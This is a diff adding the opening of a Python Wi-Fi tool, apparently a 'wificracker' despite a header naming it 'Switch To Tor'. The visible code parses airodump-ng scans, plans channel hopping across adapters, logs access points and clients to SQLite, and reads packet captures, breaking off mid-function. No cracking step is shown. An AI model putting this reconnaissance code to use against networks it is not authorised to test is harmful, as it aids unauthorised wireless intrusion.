@@ -0,0 +1,6120 @@
+"""
+========================================================================
+Program Name: Switch To Tor
+Created by: Jutt Cyber Tech
+Year: 2025
+========================================================================
+
+Description:
+This program is created for ethical, educational, and aesthetic purposes.
+All code is the intellectual property of Jutt Cyber Tech.
+
+Usage:
+- Personal and commercial use allowed.
+- Modification, redistribution, resale, or sharing is strictly prohibited.
+- For full licence and usage rules, see the LICENSE file.
+
+========================================================================
+"""
+
+import subprocess
+import os
+import re
+import sys
+
+import time
+import csv
+import select
+import mmap
+import struct
+import json
+import hashlib
+import tempfile
+import threading
+import shutil
+import heapq
+import socket
+import argparse
+import random
+import atexit
+import signal
+from collections import deque
+
+# The launcher script; child processes (simulated tools, startup benchmark) run through it
+LAUNCHER = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'wificracker.py')
+
+# Caches, catalogs and saved sessions are kept here between runs
+CACHE_DIR = os.path.join(os.environ.get('XDG_CACHE_HOME') or os.path.expanduser('~/.cache'), 'wificracker')
+
+def atomic_write_json(path, data, indent=None):
+    """Writes JSON to a temp file next to 'path' and renames it into place."""
+    directory = os.path.dirname(path)
+    os.makedirs(directory, exist_ok=True)
+    fd, tmp_path = tempfile.mkstemp(dir=directory, suffix='.tmp')
+    try:
+        with os.fdopen(fd, 'w') as f:
+            json.dump(data, f, indent=indent)
+        os.replace(tmp_path, path)
+    except BaseException:
+        if os.path.exists(tmp_path):
+            os.remove(tmp_path)
+        raise
+
+class Colors:
+    HEADER = '\033[95m'
+    OKBLUE = '\033[94m'
+    OKCYAN = '\033[96m'
+    OKGREEN = '\033[92m'
+    WARNING = '\033[93m'
+    FAIL = '\033[91m'
+    ENDC = '\033[0m'
+    BOLD = '\033[1m'
+    UNDERLINE = '\033[4m'
+
+class FileChangeWatcher:
+    """
+    Waits for a file to change. Uses inotify on the file's directory when the
+    C library provides it and falls back to cheap stat() polling otherwise.
+    'path' may also be a list of files in one directory; a change to any of
+    them ends the wait.
+    """
+    IN_MODIFY = 0x002
+    IN_CLOSE_WRITE = 0x008
+    IN_MOVED_TO = 0x080
+    IN_CREATE = 0x100
+
+    def __init__(self, path, poll_interval=0.05):
+        self.paths = [path] if isinstance(path, str) else list(path)
+        self.poll_interval = poll_interval
+        self._names = {os.fsencode(os.path.basename(p)) for p in self.paths}
+        self._fd = None
+        self._last_stat = self._stat()
+        try:
+            import ctypes
+            import ctypes.util
+            libc = ctypes.CDLL(ctypes.util.find_library('c') or 'libc.so.6', use_errno=True)
+            fd = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
+            if fd < 0:
+                return
+            mask = self.IN_MODIFY | self.IN_CLOSE_WRITE | self.IN_MOVED_TO | self.IN_CREATE
+            directory = os.path.dirname(os.path.abspath(self.paths[0]))
+            if libc.inotify_add_watch(fd, os.fsencode(directory), mask) < 0:
+                os.close(fd)
+                return
+            self._fd = fd
+        except (OSError, AttributeError):
+            # No inotify on this platform, stat() polling will be used instead
+            self._fd = None
+
+    def _stat(self):
+        stats = []
+        for path in self.paths:
+            try:
+                st = os.stat(path)
+                stats.append((st.st_ino, st.st_size, st.st_mtime_ns))
+            except OSError:
+                stats.append(None)
+        return stats
+
+    def _drain(self):
+        """Reads all pending inotify events and reports whether one of our files was among them."""
+        hit = False
+        while True:
+            try:
+                data = os.read(self._fd, 64 * 1024)
+            except BlockingIOError:
+                return hit
+            if not data:
+                return hit
+            offset = 0
+            while offset + 16 <= len(data):
+                name_len = int.from_bytes(data[offset + 12:offset + 16], sys.byteorder)
+                name = data[offset + 16:offset + 16 + name_len].rstrip(b'\0')
+                if name in self._names:
+                    hit = True
+                offset += 16 + name_len
+
+    def wait(self, timeout):
+        """
+        Blocks until the file changes or the timeout expires.
+        Returns True if the file changed.
+        """
+        deadline = time.monotonic() + timeout
+        while True:
+            remaining = deadline - time.monotonic()
+            if self._fd is not None:
+                ready, _, _ = select.select([self._fd], [], [], max(remaining, 0))
+                if ready and self._drain():
+                    # airodump-ng rewrites the file in several writes, let it settle briefly,
+                    # but not for long: a file that is appended to all the time never settles
+                    settle_until = min(deadline, time.monotonic() + 0.1)
+                    while time.monotonic() < settle_until and select.select([self._fd], [], [], 0.02)[0]:
+                        self._drain()
+            elif remaining > 0:
+                time.sleep(min(self.poll_interval, remaining))
+            current = self._stat()
+            if current != self._last_stat:
+                self._last_stat = current
+                return True
+            if remaining <= 0:
+                return False
+
+    def close(self):
+        if self._fd is not None:
+            os.close(self._fd)
+            self._fd = None
+
+class ScanFileReader:
+    """
+    Stateful reader for the CSV file that airodump-ng rewrites during a scan.
+    Only the part of the file after the first changed byte is looked at again,
+    and only rows whose text changed are re-parsed. Access points and stations
+    are kept in tables keyed by MAC, with AP -> clients and ESSID -> probing
+    stations indexes updated per changed row, so the cost of a refresh follows
+    what changed, not how long the scan has been running.
+    """
+    def __init__(self, path):
+        self.path = path
+        self.access_points = {} # bssid -> parsed access point
+        self.stations = {} # station mac -> parsed station
+        self.clients = {} # bssid -> set of associated station macs
+        self.probers = {} # essid -> set of station macs probing for it
+        self._data = b''
+        self._inode = None
+        self._raw_rows = {} # bssid -> raw CSV line the entry was parsed from
+        self._raw_stations = {} # station mac -> raw CSV line
+        self._ap_header = None # Byte offsets of the section headers in self._data
+        self._station_header = None
+        self._watcher = None
+
+    def wait_for_change(self, timeout):
+        """Sleeps until airodump-ng writes the file again (or the timeout expires)."""
+        if self._watcher is None:
+            self._watcher = FileChangeWatcher(self.path)
+        return self._watcher.wait(timeout)
+
+    def close(self):
+        if self._watcher:
+            self._watcher.close()
+            self._watcher = None
+
+    def _section_at(self, offset):
+        if self._station_header is not None and offset > self._station_header:
+            return 'station'
+        if self._ap_header is not None and offset > self._ap_header:
+            return 'ap'
+        return None
+
+    @staticmethod
+    def _first_difference(old, new):
+        """Returns the offset of the first byte that differs between two buffers."""
+        limit = min(len(old), len(new))
+        block = 64 * 1024
+        start = 0
+        while start < limit and old[start:start + block] == new[start:start + block]:
+            start += block
+        end = min(start + block, limit)
+        while start < end and old[start] == new[start]:
+            start += 1
+        return start
+
+    @staticmethod
+    def parse_ap_row(line):
+        """
+        Parses one access point row. ESSIDs may contain commas, so the row is
+        split from both ends instead of with a plain CSV reader.
+        Returns None for rows that are not access points.
+        """
+        parts = line.split(',', 13)
+        if len(parts) < 14:
+            return None
+        essid = parts[13].rsplit(',', 1)[0] if ',' in parts[13] else parts[13]
+        return {
+            "bssid": parts[0].strip(),
+            "first_seen": parts[1].strip(),
+            "last_seen": parts[2].strip(),
+            "channel": parts[3].strip(),
+            "speed": parts[4].strip(),
+            "encryption": parts[5].strip(),
+            "cipher": parts[6].strip(),
+            "auth": parts[7].strip(),
+            "power": parts[8].strip(),
+            "beacons": parts[9].strip(),
+            "ivs": parts[10].strip(),
+            "essid": essid.strip(),
+        }
+
+    @staticmethod
+    def parse_station_row(line):
+        """
+        Parses one station row. The probed ESSIDs are the last column and are
+        themselves comma separated, so the row is split at most six times.
+        'bssid' is None for stations that are not associated.
+        """
+        parts = line.split(',', 6)
+        if len(parts) < 6:
+            return None
+        bssid = parts[5].strip()
+        probes = parts[6] if len(parts) > 6 else ''
+        return {
+            "station": parts[0].strip(),
+            "first_seen": parts[1].strip(),
+            "last_seen": parts[2].strip(),
+            "power": parts[3].strip(),
+            "packets": parts[4].strip(),
+            "bssid": bssid if len(bssid) == 17 else None, # '(not associated)'
+            "probes": [essid.strip() for essid in probes.split(',') if essid.strip()],
+        }
+
+    def _index_station(self, station):
+        """Moves a station between the AP and probe indexes; returns the BSSIDs whose client list changed."""
+        mac = station["station"]
+        old = self.stations.get(mac)
+        self.stations[mac] = station
+        touched = set()
+        if old is None or old["bssid"] != station["bssid"]:
+            if old and old["bssid"]:
+                clients = self.clients.get(old["bssid"])
+                if clients:
+                    clients.discard(mac)
+                touched.add(old["bssid"])
+            if station["bssid"]:
+                self.clients.setdefault(station["bssid"], set()).add(mac)
+                touched.add(station["bssid"])
+        if old is None or old["probes"] != station["probes"]:
+            for essid in old["probes"] if old else ():
+                self.probers.get(essid, set()).discard(mac)
+            for essid in station["probes"]:
+                self.probers.setdefault(essid, set()).add(mac)
+        return touched
+
+    def clients_of(self, bssid):
+        """Stations associated with an access point, most recently seen first."""
+        stations = [self.stations[mac] for mac in self.clients.get(bssid, ())]
+        return sorted(stations, key=lambda st: st["last_seen"], reverse=True)
+
+    def refresh(self):
+        """
+        Re-reads the file if it changed. Returns the set of BSSIDs that were
+        added or updated, including APs whose client list changed (empty when
+        nothing changed).
+        """
+        try:
+            with open(self.path, 'rb') as f:
+                inode = os.fstat(f.fileno()).st_ino
+                data = f.read()
+        except FileNotFoundError:
+            return set()
+
+        if inode != self._inode:
+            # A different file (new scan), start over
+            self.access_points.clear()
+            self._raw_rows.clear()
+            self.stations.clear()
+            self.clients.clear()
+            self.probers.clear()
+            self._raw_stations.clear()
+            self._data = b''
+            self._ap_header = self._station_header = None
+            self._inode = inode
+
+        if data == self._data:
+            return set()
+
+        start = self._first_difference(self._data, data)
+        start = data.rfind(b'\n', 0, start) + 1 # Back up to the start of the line
+        if self._ap_header is not None and self._ap_header >= start:
+            self._ap_header = None
+        if self._station_header is not None and self._station_header >= start:
+            self._station_header = None
+        section = self._section_at(start)
+
+        # The last line may still be in the middle of being written, only take complete lines
+        end = data.rfind(b'\n') + 1
+        changed = set()
+        offset = start
+        for raw in data[start:end].split(b'\n')[:-1]:
+            line_start = offset
+            offset += len(raw) + 1
+            raw = raw.rstrip(b'\r')
+            if not raw.strip():
+                continue
+            if raw.startswith(b'BSSID'):
+                section = 'ap'
+                self._ap_header = line_start
+                continue
+            if raw.startswith(b'Station MAC'):
+                section = 'station'
+                self._station_header = line_start
+                continue
+            if section == 'ap':
+                key = raw[:17]
+                if self._raw_rows.get(key) == raw:
+                    continue
+                ap = self.parse_ap_row(raw.decode('utf-8', 'replace'))
+                if ap is None:
+                    continue
+                self._raw_rows[key] = raw
+                self.access_points[ap["bssid"]] = ap
+                changed.add(ap["bssid"])
+            elif section == 'station':
+                key = raw[:17]
+                if self._raw_stations.get(key) == raw:
+                    continue
+                station = self.parse_station_row(raw.decode('utf-8', 'replace'))
+                if station is None:
+                    continue
+                self._raw_stations[key] = raw
+                changed |= self._index_station(station)
+
+        self._data = data
+        return changed
+
+# Survey channel sets as frequencies in MHz, airodump-ng takes them with -C.
+# 6 GHz uses the preferred scanning channels, where APs advertise themselves.
+BANDS = {
+    '2.4': [2407 + 5 * ch for ch in range(1, 14)],
+    '5': [5000 + 5 * ch for ch in (36, 40, 44, 48, 52, 56, 60, 64, *range(100, 145, 4), *range(149, 166, 4))],
+    '6': [5950 + 5 * ch for ch in range(5, 234, 16)],
+}
+
+def channel_to_frequency(channel):
+    """Frequency of an airodump-ng channel number (2.4 and 5 GHz numbering)."""
+    channel = int(channel)
+    if channel == 14:
+        return 2484
+    return 2407 + 5 * channel if channel < 14 else 5000 + 5 * channel
+
+def partition_channels(adapters, bands=('2.4', '5'), supported=None):
+    """
+    Splits the channels of the given bands into contiguous, evenly sized
+    shares, one per adapter, so every radio hops a short list.
+    'supported' maps an adapter to the frequencies it can tune to (see
+    InterfaceDiscovery.frequencies()); a channel only goes to adapters that
+    list it, and an adapter without a list is taken to support every channel.
+    The channels the fewest adapters can take are handed out first, so a
+    2.4 GHz-only adapter ends up with a bigger share of 2.4 GHz instead.
+    Channels no adapter supports are left out. Returns {adapter: [frequencies]}.
+    """
+    supported = supported or {}
+    groups = {} # adapters that can take a channel -> those channels, in order
+    for frequency in (f for band in bands for f in BANDS[band]):
+        capable = tuple(a for a in adapters if not supported.get(a) or frequency in supported[a])
+        if capable:
+            groups.setdefault(capable, []).append(frequency)
+    plan = {adapter: [] for adapter in adapters}
+    for capable, frequencies in sorted(groups.items(), key=lambda item: len(item[0])):
+        shares = dict.fromkeys(capable, 0)
+        for _ in frequencies:
+            shares[min(capable, key=lambda a: len(plan[a]) + shares[a])] += 1
+        start = 0
+        for adapter in capable:
+            plan[adapter] += frequencies[start:start + shares[adapter]]
+            start += shares[adapter]
+    return {adapter: sorted(frequencies) for adapter, frequencies in plan.items() if frequencies}
+
+class SurveyMerger:
+    """
+    Merges the scan files of several adapters into one table keyed by BSSID.
+    Each adapter's row for an AP is kept, and the merged row takes the
+    strongest signal, the earliest first-seen and latest last-seen times, the
+    summed beacon/IV counts, the number of distinct clients any adapter saw,
+    and all other fields from the adapter that saw the AP most recently. It also records when each BSSID first showed up,
+    which gives the time to a full picture of the site.
+    """
+    def __init__(self, paths):
+        self.readers = {path: ScanFileReader(path) for path in paths}
+        self.access_points = {}
+        self.first_found = {} # bssid -> seconds after the survey started
+        self.started = time.monotonic()
+        self._views = {} # bssid -> {path: access point as that adapter saw it}
+        self._watcher = None
+
+    def refresh(self):
+        """Refreshes every scan file; returns the set of BSSIDs that changed."""
+        changed = set()
+        for path, reader in self.readers.items():
+            for bssid in reader.refresh():
+                if bssid in reader.access_points:
+                    self._views.setdefault(bssid, {})[path] = reader.access_points[bssid]
+                changed.add(bssid)
+        # Client changes can name an AP none of the adapters has listed yet
+        changed &= self._views.keys()
+        now = time.monotonic() - self.started
+        for bssid in changed:
+            merged = self.merge(list(self._views[bssid].values()))
+            merged["clients"] = len(self.client_macs(bssid))
+            self.access_points[bssid] = merged
+            self.first_found.setdefault(bssid, now)
+        return changed
+
+    def client_macs(self, bssid):
+        macs = set()
+        for reader in self.readers.values():
+            macs |= reader.clients.get(bssid, set())
+        return macs
+
+    def clients_of(self, bssid):
+        """Clients of an AP seen by any adapter, the most recent sighting of each, newest first."""
+        latest = {}
+        for reader in self.readers.values():
+            for station in reader.clients_of(bssid):
+                known = latest.get(station["station"])
+                if known is None or station["last_seen"] > known["last_seen"]:
+                    latest[station["station"]] = station
+        return sorted(latest.values(), key=lambda st: st["last_seen"], reverse=True)
+
+    @staticmethod
+    def merge(views):
+        if len(views) == 1:
+            return dict(views[0], adapters=1)
+        merged = dict(max(views, key=lambda ap: ap["last_seen"]))
+        merged["power"] = max((ap["power"] for ap in views), key=WifiCracker._power_value)
+        merged["first_seen"] = min(ap["first_seen"] for ap in views)
+        for field in ("beacons", "ivs"):
+            merged[field] = str(sum(int(ap[field]) for ap in views if ap[field].isdigit()))
+        merged["adapters"] = len(views)
+        return merged
+
+    def wait_for_change(self, timeout):
+        if self._watcher is None:
+            self._watcher = FileChangeWatcher(list(self.readers))
+        return self._watcher.wait(timeout)
+
+    def close(self):
+        for reader in self.readers.values():
+            reader.close()
+        if self._watcher:
+            self._watcher.close()
+            self._watcher = None
+
+    def coverage(self):
+        """Seconds until 50%, 90% and 100% of the networks found so far were first seen."""
+        return coverage_times(self.first_found.values())
+
+def coverage_times(times):
+    times = sorted(times)
+    if not times:
+        return {"networks": 0, "t50": None, "t90": None, "t100": None}
+    pick = lambda share: round(times[max(0, -(-len(times) * share // 100) - 1)], 2)
+    return {"networks": len(times), "t50": pick(50), "t90": pick(90), "t100": pick(100)}
+
+def simulate_coverage(ap_frequencies, plan, dwell=0.25, beacon_interval=0.1024, reception=0.3, seed=0, limit=600):
+    """
+    Simulated site survey: every adapter hops its share of the plan, staying
+    'dwell' seconds on each frequency (airodump-ng's default hop time), and
+    receives each beacon of an AP on that frequency with probability
+    'reception'. Returns coverage_times() of when each AP was first seen.
+    Deterministic for a given seed, so single and multi-adapter plans can be
+    compared on the same site.
+    """
+    rng = random.Random(seed)
+    phases = [rng.random() * beacon_interval for _ in ap_frequencies]
+    found = [None] * len(ap_frequencies)
+    by_frequency = {}
+    for i, frequency in enumerate(ap_frequencies):
+        by_frequency.setdefault(frequency, []).append(i)
+    for frequencies in plan.values():
+        t = 0.0
+        while t < limit and any(found[i] is None or found[i] > t for f in frequencies for i in by_frequency.get(f, ())):
+            for frequency in frequencies:
+                for i in by_frequency.get(frequency, ()):
+                    beacon = t + phases[i]
+                    while beacon < t + dwell:
+                        if (found[i] is None or beacon < found[i]) and rng.random() < reception:
+                            found[i] = beacon
+                            break
+                        beacon += beacon_interval
+                t += dwell
+    return coverage_times(t for t in found if t is not None)
+
+class ScanDatabase:
+    """
+    On-disk history of every scan, in SQLite with write-ahead logging so a
+    report can read while a live scan writes. 'aps' holds one row per BSSID
+    with its latest details and best signal; 'observations' holds the time
+    series (one row per changed airodump-ng row). Writes are queued and
+    committed in batches, so the live view never waits on the disk.
+    sqlite3 is imported here, most command line runs never open the database.
+    """
+    SCHEMA = """
+        CREATE TABLE IF NOT EXISTS scans (
+            id INTEGER PRIMARY KEY, started REAL, ended REAL, interfaces TEXT
+        );
+        CREATE TABLE IF NOT EXISTS aps (
+            bssid TEXT PRIMARY KEY, essid TEXT, channel INTEGER, encryption TEXT,
+            cipher TEXT, auth TEXT, first_seen TEXT, last_seen TEXT,
+            best_power INTEGER, last_power INTEGER, observations INTEGER, last_scan INTEGER
+        );
+        CREATE TABLE IF NOT EXISTS observations (
+            scan_id INTEGER, bssid TEXT, seen TEXT, power INTEGER, beacons INTEGER,
+            channel INTEGER, encryption TEXT, essid TEXT
+        );
+        CREATE INDEX IF NOT EXISTS aps_essid ON aps (essid);
+        CREATE INDEX IF NOT EXISTS aps_channel ON aps (channel);
+        CREATE INDEX IF NOT EXISTS observations_bssid ON observations (bssid, seen);
+        CREATE INDEX IF NOT EXISTS observations_channel ON observations (channel);
+    """
+
+    def __init__(self, path=None, batch_size=500, flush_interval=1.0):
+        import sqlite3
+        self.path = path or os.path.join(CACHE_DIR, 'scans.db')
+        os.makedirs(os.path.dirname(self.path), exist_ok=True)
+        self.db = sqlite3.connect(self.path)
+        self.db.row_factory = sqlite3.Row
+        self.db.execute("PRAGMA journal_mode=WAL")
+        self.db.execute("PRAGMA synchronous=NORMAL") # WAL stays consistent, only the last batch is at risk
+        self.db.executescript(self.SCHEMA)
+        self.batch_size = batch_size
+        self.flush_interval = flush_interval
+        self.scan_id = None
+        self._pending = []
+        self._last_flush = time.monotonic()
+
+    def start_scan(self, interfaces):
+        with self.db:
+            self.scan_id = self.db.execute(
+                "INSERT INTO scans (started, interfaces) VALUES (?, ?)", (time.time(), ','.join(interfaces))
+            ).lastrowid
+        return self.scan_id
+
+    def finish_scan(self):
+        self.flush()
+        if self.scan_id is not None:
+            with self.db:
+                self.db.execute("UPDATE scans SET ended = ? WHERE id = ?", (time.time(), self.scan_id))
+            self.scan_id = None
+
+    @staticmethod
+    def _int(value):
+        try:
+            return int(value)
+        except (TypeError, ValueError):
+            return None
+
+    def record(self, access_points):
+        """Queues one observation per access point; commits when a batch is due."""
+        for ap in access_points:
+            power = WifiCracker._power_value(ap["power"])
+            self._pending.append((
+                self.scan_id, ap["bssid"], ap["last_seen"], power if power > -1000 else None,
+                self._int(ap["beacons"]), self._int(ap["channel"]), ap["encryption"], ap["essid"],
+                ap["cipher"], ap["auth"], ap["first_seen"],
+            ))
+        if len(self._pending) >= self.batch_size or time.monotonic() - self._last_flush >= self.flush_interval:
+            self.flush()
+
+    def flush(self):
+        self._last_flush = time.monotonic()
+        if not self._pending:
+            return
+        rows, self._pending = self._pending, []
+        with self.db:
+            self.db.executemany(
+                "INSERT INTO observations (scan_id, bssid, seen, power, beacons, channel, encryption, essid)"
+                " VALUES (?, ?, ?, ?, ?, ?, ?, ?)", [row[:8] for row in rows]
+            )
+            self.db.executemany("""
+                INSERT INTO aps (bssid, essid, channel, encryption, cipher, auth, first_seen, last_seen,
+                                 best_power, last_power, observations, last_scan)
+                VALUES (:bssid, :essid, :channel, :encryption, :cipher, :auth, :first_seen, :seen,
+                        :power, :power, 1, :scan)
+                ON CONFLICT (bssid) DO UPDATE SET
+                    essid = CASE WHEN excluded.essid != '' THEN excluded.essid ELSE aps.essid END,
+                    channel = excluded.channel, encryption = excluded.encryption,
+                    cipher = excluded.cipher, auth = excluded.auth,
+                    first_seen = MIN(aps.first_seen, excluded.first_seen),
+                    last_seen = MAX(aps.last_seen, excluded.last_seen),
+                    best_power = MAX(COALESCE(aps.best_power, excluded.best_power), COALESCE(excluded.best_power, aps.best_power)),
+                    last_power = COALESCE(excluded.last_power, aps.last_power),
+                    observations = aps.observations + 1, last_scan = excluded.last_scan
+            """, [
+                {"scan": r[0], "bssid": r[1], "seen": r[2], "power": r[3], "channel": r[5],
+                 "encryption": r[6], "essid": r[7], "cipher": r[8], "auth": r[9], "first_seen": r[10]}
+                for r in rows
+            ])
+
+    def history(self, bssid=None, essid=None, channel=None, since=None, limit=None):
+        """Known access points matching all given filters, most recently seen first."""
+        where, params = [], []
+        if bssid:
+            where.append("bssid = ?")
+            params.append(bssid.upper())
+        if essid:
+            where.append("essid = ?")
+            params.append(essid)
+        if channel is not None:
+            where.append("channel = ?")
+            params.append(channel)
+        if since:
+            where.append("last_seen >= ?")
+            params.append(since)
+        query = "SELECT * FROM aps" + (" WHERE " + " AND ".join(where) if where else "") + " ORDER BY last_seen DESC"
+        if limit:
+            query += f" LIMIT {int(limit)}"
+        return [dict(row) for row in self.db.execute(query, params)]
+
+    def series(self, bssid, since=None):
+        """Observations of one BSSID in time order."""
+        query = "SELECT seen, power, beacons, channel, encryption, essid, scan_id FROM observations WHERE bssid = ?"
+        params = [bssid.upper()]
+        if since:
+            query += " AND seen >= ?"
+            params.append(since)
+        return [dict(row) for row in self.db.execute(query + " ORDER BY seen", params)]
+
+    def close(self):
+        self.finish_scan()
+        self.db.close()
+
+class LiveTableRenderer:
+    """
+    Draws a live table in the terminal with ANSI cursor addressing.
+    The screen is cleared once, after that only the cells whose text or colour
+    changed are rewritten. Frames are capped at max_fps; a frame that arrives
+    too early is left pending for the caller to retry.
+    """
+    def __init__(self, title, columns, max_fps=4, stream=None):
+        self.title = title
+        self.columns = columns # List of (header, width); the last column takes the remaining width
+        self.min_interval = 1.0 / max_fps
+        self.stream = stream or sys.stdout
+        self.pending = False
+        self._last_frame = 0.0
+        self._screen = {} # (row, column index) -> (colour, text) currently on screen
+        self._size = None
+        self._used_rows = 0
+        self._footer_row = None
+
+    def _layout(self, width):
+        offsets, widths, col = [], [], 1
+        for i, (_, w) in enumerate(self.columns):
+            if i == len(self.columns) - 1:
+                w = max(width - col, 1)
+            offsets.append(col)
+            widths.append(w)
+            col += w + 1
+        return offsets, widths
+
+    def next_frame_in(self):
+        """Seconds until the rate cap allows another frame."""
+        return max(self._last_frame + self.min_interval - time.monotonic(), 0)
+
+    def render(self, rows, footer=""):
+        """
+        Draws one frame. Each row is a list of (colour, text) cells.
+        Returns False (and sets self.pending) if the frame was rate limited.
+        """
+        now = time.monotonic()
+        if now - self._last_frame < self.min_interval:
+            self.pending = True
+            return False
+        self._last_frame = now
+        self.pending = False
+
+        try:
+            size = os.get_terminal_size(self.stream.fileno())
+        except (OSError, ValueError, AttributeError):
+            size = os.terminal_size((80, 24))
+        out = []
+        if size != self._size:
+            # First frame or the terminal was resized: start from a clean screen
+            self._size = size
+            self._screen.clear()
+            self._used_rows = 0
+            self._footer_row = None
+            out.append("\033[?25l\033[2J\033[H")
+            out.append(f"{Colors.HEADER}{self.title}{Colors.ENDC}\r\n\r\n")
+            header = " ".join(f"{h:<{w}}" for h, w in self.columns[:-1]) + " " + self.columns[-1][0]
+            out.append(f"{Colors.BOLD}{header[:size.columns]}{Colors.ENDC}\r\n")
+            out.append(f"{Colors.BOLD}{'-' * min(size.columns, 80)}{Colors.ENDC}")
+
+        offsets, widths = self._layout(size.columns)
+        first_row = 5
+        visible = rows[:max(size.lines - first_row - 1, 1)]
+        last_row = first_row + len(visible)
+        if self._footer_row is not None and self._footer_row < last_row:
+            # The table grew over the previous footer; the cells do not cover the gaps between columns
+            for c in range(len(self.columns)):
+                self._screen.pop((self._footer_row, c), None)
+            out.append(f"\033[{self._footer_row};1H\033[K")
+        for r, row in enumerate(visible):
+            screen_row = first_row + r
+            for c, cell in enumerate(row):
+                if self._screen.get((screen_row, c)) == cell:
+                    continue
+                self._screen[(screen_row, c)] = cell
+                colour, text = cell
+                text = str(text)[:widths[c]].ljust(widths[c])
+                out.append(f"\033[{screen_row};{offsets[c]}H{colour}{text}{Colors.ENDC}")
+
+        # Blank out rows left over from a longer previous frame
+        for screen_row in range(last_row, first_row + self._used_rows + 1):
+            for c in range(len(self.columns)):
+                self._screen.pop((screen_row, c), None)
+            out.append(f"\033[{screen_row};1H\033[K")
+        self._used_rows = len(visible)
+        self._footer_row = last_row
+        out.append(f"\033[{last_row};1H\033[K{Colors.OKCYAN}{footer[:size.columns]}{Colors.ENDC}")
+
+        self.stream.write("".join(out))
+        self.stream.flush()
+        return True
+
+    def close(self):
+        """Puts the cursor below the table and shows it again."""
+        if self._size is not None:
+            self.stream.write(f"\033[{5 + self._used_rows + 1};1H\033[?25h\n")
+        else:
+            self.stream.write("\033[?25h")
+        self.stream.flush()
+
+class CaptureFile:
+    """
+    Streaming reader for pcap and pcapng capture files.
+    The file is memory-mapped and walked record by record. Reading is
+    resumable: read_frames() picks up where the previous call stopped, so a
+    capture that is still being written can be followed as it grows.
+    """
+    PCAPNG_SHB = 0x0A0D0D0A
+
+    def __init__(self, path):
+        self.path = path
+        self.format = None # 'pcap' or 'pcapng'
+        self.offset = 0 # Start of the next unread record
+        self._hashed = 0 # Bytes fed to the digest passed to read_frames()
+        self._endian = '<'
+        self._ts_divisor = 1e6
+        self._linktype = None # pcap: single link type
+        self._interfaces = [] # pcapng: list of (linktype, timestamp divisor)
+
+    @property
+    def linktype(self):
+        if self.format == 'pcapng':
+            return self._interfaces[0][0] if self._interfaces else None
+        return self._linktype
+
+    def _read_pcap_header(self, mm):
+        magic = mm[:4]
+        if magic in (b'\xd4\xc3\xb2\xa1', b'\x4d\x3c\xb2\xa1'):
+            self._endian = '<'
+        elif magic in (b'\xa1\xb2\xc3\xd4', b'\xa1\xb2\x3c\x4d'):
+            self._endian = '>'
+        else:
+            raise ValueError(f"'{self.path}' is not a pcap or pcapng file")
+        self._ts_divisor = 1e9 if magic in (b'\x4d\x3c\xb2\xa1', b'\xa1\xb2\x3c\x4d') else 1e6
+        self._linktype = struct.unpack_from(self._endian + 'I', mm, 20)[0] & 0xFFFF
+        self.format = 'pcap'
+        self.offset = 24
+
+    def read_frames(self, digest=None):
+        """
+        Yields (record_offset, linktype, timestamp, frame) for every complete
+        record after the last one returned. A record that is only partly on
+        disk is left for the next call.
+        If a hashlib object is given as 'digest', the bytes of the file are fed
+        to it along the walk, so once the walk ends it covers the whole file
+        without reading it a second time.
+        """
+        try:
+            f = open(self.path, 'rb')
+        except FileNotFoundError:
+            return
+        with f:
+            size = os.fstat(f.fileno()).st_size
+            if size < 24 or size <= self.offset:
+                if digest is not None and size > self._hashed:
+                    f.seek(self._hashed)
+                    digest.update(f.read(size - self._hashed))
+                    self._hashed = size
+                return
+            mm = mmap.mmap(f.fileno(), size, access=mmap.ACCESS_READ)
+            try:
+                if self.format is None:
+                    if struct.unpack_from('<I', mm, 0)[0] == self.PCAPNG_SHB:
+                        self.format = 'pcapng'
+                    else:
+                        self._read_pcap_header(mm)
+                if self.format == 'pcap':
+                    records = self._pcap_records(mm, size)
+                else:
+                    records = self._pcapng_blocks(mm, size)
+                if digest is None:
+                    yield from records
+                    return
+                for record in records:
+                    yield record
+                    # Hash the pages just parsed while they are still in the cache
+                    if self.offset - self._hashed >= 1024 * 1024:
+                        digest.update(mm[self._hashed:self.offset])
+                        self._hashed = self.offset
+                digest.update(mm[self._hashed:size])
+                self._hashed = size
+            finally:
+                mm.close()
+
+    def _pcap_records(self, mm, size):
+        record = struct.Struct(self._endian + 'IIII')
+        linktype = self._linktype
+        divisor = self._ts_divisor
+        offset = self.offset
+        while offset + 16 <= size:
+            ts_sec, ts_frac, incl_len, _ = record.unpack_from(mm, offset)
+            end = offset + 16 + incl_len
+            if end > size:
+                break
+            yield offset, linktype, ts_sec + ts_frac / divisor, mm[offset + 16:end]
+            offset = end
+            self.offset = offset
+
+    def _pcapng_blocks(self, mm, size):
+        offset = self.offset
+        while offset + 12 <= size:
+            block_type = struct.unpack_from('<I', mm, offset)[0]
+            if block_type == self.PCAPNG_SHB:
+                bom = mm[offset + 8:offset + 12]
+                self._endian = '<' if bom == b'\x4d\x3c\x2b\x1a' else '>'
+                self._interfaces = [] # Interface IDs are scoped to a section
+            e = self._endian
+            block_type, block_len = struct.unpack_from(e + 'II', mm, offset)
+            if block_len < 12 or block_len % 4:
+                raise ValueError(f"Corrupt pcapng block at offset {offset} in '{self.path}'")
+            end = offset + block_len
+            if end > size:
+                break
+            if block_type == 1: # Interface Description Block
+                linktype = struct.unpack_from(e + 'H', mm, offset + 8)[0]
+                self._interfaces.append((linktype, self._idb_ts_divisor(mm, offset + 16, end - 4)))
+            elif block_type in (6, 2): # Enhanced / obsolete Packet Block
+                if block_type == 6:
+                    iface, ts_high, ts_low, cap_len = struct.unpack_from(e + 'IIII', mm, offset + 8)
+                else:
+                    iface, _, ts_high, ts_low, cap_len = struct.unpack_from(e + 'HHIII', mm, offset + 8)
+                if iface < len(self._interfaces):
+                    linktype, divisor = self._interfaces[iface]
+                    data = mm[offset + 28:offset + 28 + cap_len]
+                    yield offset, linktype, ((ts_high << 32) | ts_low) / divisor, data
+            elif block_type == 3: # Simple Packet Block
+                if self._interfaces:
+                    orig_len = struct.unpack_from(e + 'I', mm, offset + 8)[0]
+                    linktype, _ = self._interfaces[0]
+                    data = mm[offset + 12:offset + 12 + min(orig_len, block_len - 16)]
+                    yield offset, linktype, 0.0, data
+            offset = end
+            self.offset = offset
+
+    def _idb_ts_divisor(self, mm, start, end):
+        """Reads the if_tsresol option of an Interface Description Block."""
+        offset = start
+        while offset + 4 <= end:
+            code, length = struct.unpack_from(self._endian + 'HH', mm, offset)
+            if code == 0:
+                break
+            if code == 9 and length >= 1:
+                resol = mm[offset + 4]
